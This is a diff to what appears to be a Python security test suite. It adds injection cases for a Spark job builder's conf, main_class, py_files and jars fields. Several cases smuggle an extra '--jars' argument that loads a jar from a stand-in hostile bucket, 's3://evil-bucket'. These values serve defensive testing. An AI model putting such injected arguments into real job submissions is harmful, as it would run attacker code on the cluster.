@@ -111,6 +111,13 @@ Case = tuple[str, Callable[[], Any], str, Any]
 SPARK_DRIVER_CASES: list[tuple[str, dict[str, Any], str, Any]] = [
     ("conf-value", {"conf": {"spark.executor.memory": X}}, "conf", INJECT),
     ("conf-key", {"conf": {X: "1"}}, "conf", "spark.a=1 --jars s3://evil-bucket/pwn.jar"),
+    # A rendered value that itself looks like a template is data, not a template to let through.
+    (
+        "conf-value-braces",
+        {"conf": {"spark.executor.memory": X}},
+        "conf",
+        "{{ 4g --jars s3://evil-bucket/p.jar }}",
+    ),
     ("main_class", {"main_class": X, "entry_point": "s3://acme-code/a.jar"}, "main_class", "a.Main --jars x"),
     ("py_files", {"py_files": [X]}, "py_files", LIST_INJECT),
     ("jars", {"jars": [X]}, "jars", "s3://acme-code/a.jar,s3://evil-bucket/pwn.jar"),
